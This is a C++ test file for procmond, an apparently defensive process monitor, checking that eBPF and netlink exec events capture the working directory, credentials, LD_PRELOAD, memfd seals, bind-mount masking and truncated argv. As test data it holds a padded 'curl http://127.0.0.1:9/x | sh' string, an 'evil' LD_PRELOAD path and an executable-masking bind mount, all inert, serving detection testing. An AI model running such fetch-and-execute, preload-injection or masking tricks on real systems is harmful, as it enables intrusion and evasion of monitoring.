// The eBPF exec events of this machine's kernel against real processes the
// test starts (root: the program is loaded the way procmond loads it): each
// field of the exec context is checked against what the test did to the
// process before its exec, after the process is gone (so the value came from
// the kernel at exec time, not from /proc).
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <condition_variable>
#include <filesystem>
#include <functional>
#include <mutex>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "procmond/bpf_support.h"
#include "procmond/platform/linux/boot_clock.h"
#include "procmond/platform/linux/linux_process_source.h"
#include "procmond/platform/linux/proc_parsers.h"
#include "procmond/platform/linux/task_sampler.h"
#include "procmond/realtime/event_writer.h"
#include "procmond/realtime/proc_reads.h"
#include "procmond/realtime/realtime_source.h"
#include "sentinel/testing/temp_dir.h"

extern char** environ;

namespace sentinel::procmond {
namespace {

using ::sentinel::testing::TempDir;

// The real eBPF source, its events collected in order.
class Capture {
 public:
  static std::unique_ptr<Capture> Open(std::string* why, bool netlink = false) {
    if (::geteuid() != 0) {
      *why = "privileged test: loading the BPF program (or subscribing to the proc connector) needs root";
      return nullptr;
    }
    auto c = std::make_unique<Capture>();
    auto src = netlink ? OpenNetlinkSource(RealtimeOptions{}, &c->stats_)
                       : OpenEbpfSource(RealtimeOptions{}, &c->stats_);
    if (!src.ok()) {
      if (netlink || BpfSupportBuilt())
        ADD_FAILURE() << "root and no " << (netlink ? "netlink" : "eBPF")
                      << " source: " << src.status().message();
      *why = src.status().message();
      return nullptr;
    }
    c->src_ = std::move(*src);
    Status st = c->src_->Start([p = c.get()](RealtimeEvent&& ev) { p->Add(std::move(ev)); });
    if (!st.ok()) {
      ADD_FAILURE() << st.message();
      return nullptr;
    }
    return c;
  }
  ~Capture() {
    if (src_) src_->Stop();
  }

  // The first exec event `match` accepts (deadline: a guard, not a timing check).
  std::optional<RealtimeEvent> WaitExecWhere(const std::function<bool(const RealtimeEvent&)>& match) {
    std::unique_lock lock(mu_);
    std::optional<RealtimeEvent> found;
    cv_.wait_for(lock, std::chrono::seconds(20), [&] {
      for (const RealtimeEvent& ev : events_) {
        if (ev.type == RealtimeEventType::kExec && match(ev)) {
          found = ev;
          return true;
        }
      }
      return false;
    });
    return found;
  }
  std::optional<RealtimeEvent> WaitExec(int64_t pid) {
    return WaitExecWhere([pid](const RealtimeEvent& ev) { return ev.pid == pid; });
  }

  std::vector<RealtimeEvent> Events() {
    std::lock_guard lock(mu_);
    return events_;
  }

 private:
  void Add(RealtimeEvent&& ev) {
    std::lock_guard lock(mu_);
    events_.push_back(std::move(ev));
    cv_.notify_all();
  }

  RealtimeStats stats_;
  std::unique_ptr<RealtimeSource> src_;
  std::mutex mu_;
  std::condition_variable cv_;
  std::vector<RealtimeEvent> events_;
};

#define CAPTURE_OR_SKIP(var)            \
  std::string why_##var;                \
  auto var = Capture::Open(&why_##var); \
  if (!var) GTEST_SKIP() << why_##var;

// Forks a child that runs `setup` (async-signal-safe calls only; a non-zero
// return ends the child with that code) and then execs argv[0] with `envp`.
pid_t ForkExec(const std::function<int()>& setup, const std::vector<std::string>& argv,
               char* const* envp = environ) {
  std::vector<char*> cargv;
  for (const auto& a : argv) cargv.push_back(const_cast<char*>(a.c_str()));
  cargv.push_back(nullptr);
  const pid_t pid = ::fork();
  if (pid == 0) {
    const int null = ::open("/dev/null", O_WRONLY);
    if (null >= 0) ::dup2(null, 2);
    if (int rc = setup(); rc != 0) _exit(rc);
    ::execve(cargv[0], cargv.data(), envp);
    _exit(127);
  }
  return pid;
}

int Reap(pid_t pid) {
  int status = 0;
  ::waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

std::string Token(const char* what) {
  return std::string("capture-") + what + "-" + std::to_string(::getpid());
}

TEST(EbpfExecContextTest, WorkingDirectoryAndPlainCredentialsOfAProcessThatIsGone) {
  CAPTURE_OR_SKIP(cap);
  TempDir tmp;
  const std::string dir = tmp.path() + "/a dir/b\xc3\xa9";
  std::filesystem::create_directories(dir);
  const pid_t pid = ForkExec([&] { return ::chdir(dir.c_str()) == 0 ? 0 : 3; }, {"/bin/true", Token("cwd")});
  ASSERT_EQ(Reap(pid), 0);
  auto ev = cap->WaitExec(pid);
  ASSERT_TRUE(ev.has_value());
  EXPECT_EQ(ev->cwd, std::filesystem::canonical(dir).string());
  EXPECT_EQ(ev->euid, 0);
  EXPECT_EQ(ev->egid, 0);
  EXPECT_EQ(ev->cred_change, false);
  EXPECT_EQ(ev->ppid, ::getpid());
  ASSERT_TRUE(ev->start_boottime_ns.has_value());
  EXPECT_TRUE(ev->incomplete.empty()) << ev->incomplete;

  // A removed working directory reads as /proc shows it.
  const std::string gone = tmp.path() + "/gone";
  std::filesystem::create_directories(gone);
  // The child enters it and says so (ready); the directory is removed; then it execs (go).
  int ready[2], go[2];
  ASSERT_EQ(::pipe(ready), 0);
  ASSERT_EQ(::pipe(go), 0);
  const pid_t pid2 = ForkExec(
      [&] {
        char b;
        if (::chdir(gone.c_str()) != 0) return 3;
        if (::write(ready[1], "r", 1) != 1) return 4;
        return ::read(go[0], &b, 1) == 1 ? 0 : 5;
      },
      {"/bin/true", Token("gone")});
  ::close(ready[1]);
  ::close(go[0]);
  char b;
  ASSERT_EQ(::read(ready[0], &b, 1), 1);
  ::close(ready[0]);
  std::filesystem::remove(gone);
  ASSERT_EQ(::write(go[1], "x", 1), 1);
  ::close(go[1]);
  ASSERT_EQ(Reap(pid2), 0);
  ev = cap->WaitExec(pid2);
  ASSERT_TRUE(ev.has_value());
  EXPECT_EQ(ev->cwd, std::filesystem::canonical(tmp.path()).string() + "/gone (deleted)");
}

TEST(EbpfExecContextTest, ParentFieldsFromTheParentsOwnExecAndFromProc) {
  CAPTURE_OR_SKIP(cap);
  const std::string tok = Token("parent");
  const std::string script = "/bin/true " + tok + "; exit 0";
  const pid_t sh = ForkExec([] { return 0; }, {"/bin/sh", "-c", script});
  ASSERT_EQ(Reap(sh), 0);
  auto grandchild = cap->WaitExecWhere(
      [&](const RealtimeEvent& e) { return e.argv && e.argv->size() == 2 && (*e.argv)[1] == tok; });
  ASSERT_TRUE(cap->WaitExec(sh).has_value());
  ASSERT_TRUE(grandchild.has_value());
  EXPECT_EQ(grandchild->ppid, sh);

  // Every event in order through the writer's enrichment, as procmond does.
  RealtimeStats stats;
  EventWriterOptions opts;
  opts.hash_executables = false;
  EventWriter w([](const std::vector<models::ProcessEvent>& r) { return Result<int64_t>(int64_t(r.size())); },
                &stats, opts);
  std::optional<models::ProcessEvent> sh_row, true_row;
  for (const RealtimeEvent& e : cap->Events()) {
    models::ProcessEvent row = w.ToRow(e);
    if (e.type != RealtimeEventType::kExec) continue;
    if (e.pid == sh) sh_row = row;
    if (e.pid == grandchild->pid) true_row = row;
  }
  ASSERT_TRUE(sh_row && true_row);
  // The shell's parent is this test, which did not exec while captured: /proc.
  EXPECT_EQ(sh_row->parent_exe_path, ReadLinkText("/proc/self/exe"));
  ASSERT_NE(sh_row->parent_command_encoded, nullptr);
  EXPECT_NE(sh_row->parent_command_encoded->json, "[]");
  // The grandchild's parent is the shell: its own exec event, though it is gone.
  EXPECT_EQ(true_row->parent_exe_path, "/bin/sh");
  EXPECT_EQ(true_row->parent_name, "sh");
  ASSERT_NE(true_row->parent_command_encoded, nullptr);
  EXPECT_EQ(true_row->parent_command_encoded->text, "/bin/sh -c " + script);
  EXPECT_EQ(true_row->parent_start_time_ms, sh_row->start_time_ms);
  EXPECT_EQ(true_row->name, "true");
}

// A multi-threaded parent (a Go or Java service) forks from any thread: the
// kernel's real_parent is then that thread, whose own start time is not the
// process's. The parent must still be resolved, with the process's start.
TEST(EbpfExecContextTest, ParentThatForksFromASecondThreadIsResolvedWithItsProcessStart) {
  CAPTURE_OR_SKIP(cap);
  const std::string tok = Token("thread-parent");
  pid_t child = -1;
  std::optional<RealtimeEvent> ev;
  // The thread lives until the exec is captured: once it ends, the kernel
  // reparents the child to another thread of this process.
  std::thread([&] {
    child = ForkExec([] { return 0; }, {"/bin/true", tok});
    if (child > 0) ev = cap->WaitExec(child);
  }).join();
  ASSERT_GT(child, 0);
  ASSERT_EQ(Reap(child), 0);
  ASSERT_TRUE(ev.has_value());
  EXPECT_EQ(ev->ppid, ::getpid());

  RealtimeStats stats;
  EventWriterOptions opts;
  opts.hash_executables = false;
  EventWriter w([](const std::vector<models::ProcessEvent>& r) { return Result<int64_t>(int64_t(r.size())); },
                &stats, opts);
  const models::ProcessEvent row = w.ToRow(*ev);
  std::string scratch;
  auto self = ReadProcIdentity("/proc", ::getpid(), &scratch);
  ASSERT_TRUE(self.has_value());
  EXPECT_EQ(row.parent_start_time_ms, ProcessBootClock().StartTimeMsFromTicks(self->start_ticks));
  EXPECT_EQ(row.parent_exe_path, ReadLinkText("/proc/self/exe"));
  EXPECT_EQ(row.parent_name, self->comm);
}

TEST(EbpfExecContextTest, LoginUidSetBeforeTheExec) {
  CAPTURE_OR_SKIP(cap);
  const pid_t pid = ForkExec(
      [] {
        const int fd = ::open("/proc/self/loginuid", O_WRONLY);
        if (fd < 0) return 3;
        const bool ok = ::write(fd, "4242", 4) == 4;
        ::close(fd);
        return ok ? 0 : 3;
      },
      {"/bin/true", Token("loginuid")});
  if (Reap(pid) == 3) GTEST_SKIP() << "this kernel refuses to set a login uid here (audit immutable?)";
  auto ev = cap->WaitExec(pid);
  ASSERT_TRUE(ev.has_value());
  EXPECT_EQ(ev->login_uid, 4242);
}

TEST(EbpfExecContextTest, SetuidBinaryIsACredentialChange) {
  CAPTURE_OR_SKIP(cap);
  TempDir tmp;
  struct statvfs vfs {};
  ASSERT_EQ(::statvfs(tmp.path().c_str(), &vfs), 0);
  if (vfs.f_flag & ST_NOSUID) GTEST_SKIP() << tmp.path() << " is mounted nosuid";
  const std::string copy = tmp.path() + "/suid-true";
  std::filesystem::copy_file("/bin/true", copy);
  ASSERT_EQ(::chown(copy.c_str(), 65534, 65534), 0);
  ASSERT_EQ(::chmod(copy.c_str(), 04755), 0);
  const pid_t pid = ForkExec([] { return 0; }, {copy, Token("suid")});
  ASSERT_EQ(Reap(pid), 0);
  auto ev = cap->WaitExec(pid);
  ASSERT_TRUE(ev.has_value());
  EXPECT_EQ(ev->uid, 0);
  EXPECT_EQ(ev->euid, 65534);
  EXPECT_EQ(ev->cred_change, true);
}

TEST(EbpfExecContextTest, LdPreloadOfAProcessThatIsGoneAtOnceAndNoOtherVariable) {
  CAPTURE_OR_SKIP(cap);
  std::string preload = "LD_PRELOAD=/nonexistent/" + Token("evil") + ".so";
  std::string secret = "SENTINEL_TEST_SECRET=hunter2";
  std::string path = "PATH=/usr/bin:/bin";
  char* envp[] = {secret.data(), preload.data(), path.data(), nullptr};
  // posix_spawn: /bin/true runs and exits (the loader only warns about the
  // missing library) before this test looks at anything.
  std::vector<char*> argv{const_cast<char*>("/bin/true"), nullptr};
  posix_spawn_file_actions_t fa;
  posix_spawn_file_actions_init(&fa);
  posix_spawn_file_actions_addopen(&fa, 2, "/dev/null", O_WRONLY, 0);
  pid_t pid = -1;
  ASSERT_EQ(posix_spawn(&pid, "/bin/true", &fa, nullptr, argv.data(), envp), 0);
  posix_spawn_file_actions_destroy(&fa);
  ASSERT_EQ(Reap(pid), 0);
  auto ev = cap->WaitExec(pid);
  ASSERT_TRUE(ev.has_value());
  ASSERT_TRUE(ev->env.has_value()) << ev->incomplete;
  EXPECT_EQ(ev->env->vars,
            (std::vector<std::pair<std::string, std::string>>{{"LD_PRELOAD", preload.substr(11)}}));
  EXPECT_FALSE(ev->env->truncated);
}

TEST(EbpfExecContextTest, ControllingTerminalOfAProcessOnAPseudoTerminal) {
  CAPTURE_OR_SKIP(cap);
  const int master = ::posix_openpt(O_RDWR | O_NOCTTY);
  if (master < 0 || ::grantpt(master) != 0 || ::unlockpt(master) != 0) {
    GTEST_SKIP() << "no pseudo-terminal here (devpts): " << std::strerror(errno);
  }
  const std::string slave = ::ptsname(master);
  const pid_t pid = ForkExec(
      [&] {
        if (::setsid() < 0) return 3;
        const int fd = ::open(slave.c_str(), O_RDWR);  // the session's controlling terminal
        return fd < 0 ? 4 : 0;
      },
      {"/bin/true", Token("tty")});
  ASSERT_EQ(Reap(pid), 0);
  ::close(master);
  auto ev = cap->WaitExec(pid);
  ASSERT_TRUE(ev.has_value());
  EXPECT_EQ(ev->tty, slave.substr(std::string("/dev/").size()));  // "pts/N", as ps shows it
}

// Issue 16, "one process, one identity": the exec event's start_time is the
// scan's, to the millisecond, through the task iterator and through /proc.
TEST(EbpfExecContextTest, StartTimeOfALiveProcessEqualsTheScansStartTime) {
  CAPTURE_OR_SKIP(cap);
  int in[2];
  ASSERT_EQ(::pipe(in), 0);
  const pid_t pid = ForkExec(
      [&] {
        ::close(in[1]);
        return ::dup2(in[0], 0) == 0 ? 0 : 3;
      },
      {"/bin/cat"});
  ::close(in[0]);
  auto ev = cap->WaitExec(pid);
  ASSERT_TRUE(ev.has_value());
  ASSERT_TRUE(ev->start_boottime_ns.has_value());
  const int64_t event_start = ProcessBootClock().StartTimeMs(*ev->start_boottime_ns);

  auto scan_start = [&](LinuxProcessSource& src) -> std::optional<int64_t> {
    std::vector<models::ProcessRecord> procs;
    ScanErrors errors;
    EXPECT_TRUE(src.Enumerate(&procs, &errors).ok());
    for (const auto& p : procs)
      if (p.pid == pid) return p.start_time_ms;
    return std::nullopt;
  };
  LinuxProcessSource from_proc;
  EXPECT_EQ(scan_start(from_proc), event_start);
  auto sampler = OpenBpfTaskSampler();
  ASSERT_TRUE(sampler.ok()) << sampler.status().message();
  LinuxProcessSource from_kernel;
  from_kernel.SetTaskSampler(std::move(*sampler));
  EXPECT_EQ(scan_start(from_kernel), event_start);
  EXPECT_TRUE(from_kernel.sampling_from_kernel());
  ::close(in[1]);
  EXPECT_EQ(Reap(pid), 0);
}

// Issue 17 case 2: an argument block past the capture bound keeps its start
// AND its end (padding in front of "curl ... | sh" hides nothing), with the
// whole block's length; an environment likewise (LD_PRELOAD after padding).
TEST(EbpfExecContextTest, ArgvPastTheBoundKeepsItsStartItsEndAndItsLength) {
  CAPTURE_OR_SKIP(cap);
  const std::string tok = Token("long-argv");
  const std::string payload = std::string(4200, ' ') + "curl http://127.0.0.1:9/x | sh";
  const std::vector<std::string> argv{"/bin/true", tok, payload};
  std::string pad = "SENTINEL_PAD=" + std::string(5000, 'x');
  std::string preload = "LD_PRELOAD=/nonexistent/" + tok + ".so";
  char* envp[] = {pad.data(), preload.data(), nullptr};
  const pid_t pid = ForkExec([] { return 0; }, argv, envp);
  ASSERT_EQ(Reap(pid), 0);
  auto ev = cap->WaitExec(pid);
  ASSERT_TRUE(ev.has_value());
  ASSERT_TRUE(ev->argv.has_value()) << ev->incomplete;
  EXPECT_TRUE(ev->argv_truncated);
  EXPECT_EQ(ev->args_length, static_cast<int64_t>(argv[0].size() + tok.size() + payload.size() + 3));
  ASSERT_GE(ev->argv->size(), 3u);
  EXPECT_EQ((*ev->argv)[0], "/bin/true");
  EXPECT_EQ((*ev->argv)[1], tok);
  EXPECT_TRUE(ev->argv->back().ends_with("    curl http://127.0.0.1:9/x | sh")) << ev->argv->back();
  size_t captured = 0;
  for (const auto& a : *ev->argv) captured += a.size() + 1;
  EXPECT_LE(captured, 4096u + 2);
  ASSERT_TRUE(ev->env.has_value()) << ev->incomplete;
  EXPECT_TRUE(ev->env->truncated);
  EXPECT_EQ(ev->env->vars,
            (std::vector<std::pair<std::string, std::string>>{{"LD_PRELOAD", preload.substr(11)}}));

  // A block that fits: whole, not truncated, its length.
  const pid_t short_pid = ForkExec([] { return 0; }, {"/bin/true", tok + "-short"});
  ASSERT_EQ(Reap(short_pid), 0);
  ev = cap->WaitExec(short_pid);
  ASSERT_TRUE(ev.has_value());
  EXPECT_FALSE(ev->argv_truncated);
  EXPECT_EQ(ev->argv, (std::vector<std::string>{"/bin/true", tok + "-short"}));
  EXPECT_EQ(ev->args_length, static_cast<int64_t>(std::string("/bin/true").size() + tok.size() + 6 + 2));
}

// A memfd image's seals come from the kernel at exec (the process is gone
// when they are looked at); an image that is not a memfd has none.
TEST(EbpfExecContextTest, MemfdImageSealsFromTheKernel) {
  CAPTURE_OR_SKIP(cap);
  auto run_memfd = [&](const char* name, unsigned seals) -> pid_t {
    const int fd = ::memfd_create(name, MFD_ALLOW_SEALING);
    if (fd < 0) return -1;
    const int src = ::open("/bin/true", O_RDONLY | O_CLOEXEC);
    char buf[65536];
    ssize_t n;
    while ((n = ::read(src, buf, sizeof buf)) > 0)
      if (::write(fd, buf, static_cast<size_t>(n)) != n) return -1;
    ::close(src);
    if (seals != 0 && ::fcntl(fd, F_ADD_SEALS, seals) != 0) return -1;
    const std::string tok = Token(name);
    char* argv[] = {const_cast<char*>("true"), const_cast<char*>(tok.c_str()), nullptr};
    const pid_t pid = ::fork();
    if (pid == 0) {
      ::fexecve(fd, argv, environ);
      _exit(127);
    }
    ::close(fd);
    return pid;
  };
  const unsigned runc_seals = F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE;
  const pid_t sealed = run_memfd("runc_cloned:sealed", runc_seals);
  ASSERT_GT(sealed, 0);
  ASSERT_EQ(Reap(sealed), 0);
  const pid_t open_one = run_memfd("runc_cloned:open", 0);
  ASSERT_GT(open_one, 0);
  ASSERT_EQ(Reap(open_one), 0);
  auto ev = cap->WaitExec(sealed);
  ASSERT_TRUE(ev.has_value());
  EXPECT_EQ(ev->memfd_seals, static_cast<int64_t>(runc_seals));
  ev = cap->WaitExec(open_one);
  ASSERT_TRUE(ev.has_value());
  EXPECT_EQ(ev->memfd_seals, 0);
  const pid_t plain = ForkExec([] { return 0; }, {"/bin/true", Token("not-memfd")});
  ASSERT_EQ(Reap(plain), 0);
  ev = cap->WaitExec(plain);
  ASSERT_TRUE(ev.has_value());
  EXPECT_FALSE(ev->memfd_seals.has_value());
}

// Issue 17 case 4, exec side: a file bind-mounted over a path in a private
// mount namespace runs under that path; procmond (the host's namespace)
// finds another file there: exe_host_mismatch. The same path run without
// the mount: 0. The process is gone when the row is made.
TEST(EbpfExecContextTest, ExeHostMismatchOfABindMountInAPrivateMountNamespace) {
  CAPTURE_OR_SKIP(cap);
  TempDir tmp;
  const std::string target = tmp.path() + "/sleep";
  const std::string payload = tmp.path() + "/payload";
  std::filesystem::copy_file("/bin/true", target);
  std::filesystem::copy_file("/bin/true", payload);
  ::chmod(target.c_str(), 0755);
  ::chmod(payload.c_str(), 0755);
  const pid_t masked = ForkExec(
      [&] {
        if (::unshare(CLONE_NEWNS) != 0) return 3;
        if (::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) return 4;
        return ::mount(payload.c_str(), target.c_str(), nullptr, MS_BIND, nullptr) == 0 ? 0 : 5;
      },
      {target, Token("masked")});
  ASSERT_EQ(Reap(masked), 0);
  const pid_t plain = ForkExec([] { return 0; }, {target, Token("plain")});
  ASSERT_EQ(Reap(plain), 0);
  auto masked_ev = cap->WaitExec(masked);
  auto plain_ev = cap->WaitExec(plain);
  ASSERT_TRUE(masked_ev && plain_ev);
  RealtimeStats stats;
  EventWriterOptions opts;
  opts.hash_executables = false;
  EventWriter w([](const std::vector<models::ProcessEvent>& r) { return Result<int64_t>(int64_t(r.size())); },
                &stats, opts);
  EXPECT_EQ(w.ToRow(*masked_ev).exe_host_mismatch, true);
  EXPECT_EQ(w.ToRow(*plain_ev).exe_host_mismatch, false);
  EXPECT_EQ(w.ToRow(*masked_ev).exe_path, target);

  // A script's image is its interpreter: the file at its path is the script,
  // not a mismatch (and not checked).
  const std::string script = tmp.path() + "/script.sh";
  testing::WriteFile(script, "#!/bin/sh\nexit 0\n");
  ::chmod(script.c_str(), 0755);
  const pid_t sh = ForkExec([] { return 0; }, {script, Token("script")});
  ASSERT_EQ(Reap(sh), 0);
  auto script_ev = cap->WaitExec(sh);
  ASSERT_TRUE(script_ev.has_value());
  EXPECT_TRUE(script_ev->interpreted);
  EXPECT_FALSE(plain_ev->interpreted);
  EXPECT_EQ(script_ev->exe_path, script);
  EXPECT_FALSE(w.ToRow(*script_ev).exe_host_mismatch.has_value());
}

// The netlink fallback reads the same context from /proc while the process
// lives (of a process already gone it has only what the kernel said: docs/realtime.md).
TEST(NetlinkExecContextTest, ContextOfALiveProcessFromProc) {
  std::string why;
  auto cap = Capture::Open(&why, /*netlink=*/true);
  if (!cap) GTEST_SKIP() << why;
  TempDir tmp;
  std::string preload = "LD_PRELOAD=/nonexistent/" + Token("nl") + ".so";
  std::string secret = "SENTINEL_TEST_SECRET=hunter2";
  char* envp[] = {secret.data(), preload.data(), nullptr};
  int in[2];
  ASSERT_EQ(::pipe(in), 0);
  const pid_t pid = ForkExec(
      [&] {
        ::close(in[1]);
        if (::chdir(tmp.path().c_str()) != 0) return 3;
        return ::dup2(in[0], 0) == 0 ? 0 : 4;
      },
      {"/bin/cat"}, envp);
  ::close(in[0]);
  auto ev = cap->WaitExec(pid);
  std::string stat;
  const bool stat_read = ReadSmallFile("/proc/" + std::to_string(pid) + "/stat", &stat);
  ::close(in[1]);
  EXPECT_EQ(Reap(pid), 0);
  ASSERT_TRUE(ev.has_value());
  EXPECT_EQ(ev->cwd, std::filesystem::canonical(tmp.path()).string());
  ASSERT_TRUE(ev->env.has_value()) << ev->incomplete;
  EXPECT_EQ(ev->env->vars,
            (std::vector<std::pair<std::string, std::string>>{{"LD_PRELOAD", preload.substr(11)}}));
  EXPECT_EQ(ev->euid, 0);
  EXPECT_EQ(ev->cred_change, false);
  ASSERT_TRUE(ev->start_boottime_ns.has_value());
  ASSERT_TRUE(stat_read);
  auto fields = linux_proc::ParseStat(stat);
  ASSERT_TRUE(fields.ok());
  EXPECT_EQ(ProcessBootClock().StartTimeMs(*ev->start_boottime_ns),
            ProcessBootClock().StartTimeMsFromTicks(fields->starttime_ticks));
}

// The netlink fallback bounds /proc/PID/cmdline the same way: start and end.
TEST(NetlinkExecContextTest, ArgvPastTheBoundKeepsItsStartItsEndAndItsLength) {
  std::string why;
  auto cap = Capture::Open(&why, /*netlink=*/true);
  if (!cap) GTEST_SKIP() << why;
  int in[2];
  ASSERT_EQ(::pipe(in), 0);
  const std::string tok = Token("nl-long");
  const std::vector<std::string> argv{"/bin/sh", "-c", "read x; exit 0", std::string(4200, ' '), tok};
  const pid_t pid = ForkExec(
      [&] {
        ::close(in[1]);
        return ::dup2(in[0], 0) == 0 ? 0 : 4;
      },
      argv);
  ::close(in[0]);
  auto ev = cap->WaitExec(pid);
  ::close(in[1]);
  EXPECT_EQ(Reap(pid), 0);
  ASSERT_TRUE(ev.has_value());
  ASSERT_TRUE(ev->argv.has_value()) << ev->incomplete;
  EXPECT_TRUE(ev->argv_truncated);
  EXPECT_EQ(ev->args_length, static_cast<int64_t>(8 + 3 + 15 + 4201 + tok.size() + 1));
  EXPECT_EQ(ev->argv->front(), "/bin/sh");
  EXPECT_EQ(ev->argv->back(), tok);
}

}  // namespace
}  // namespace sentinel::procmond
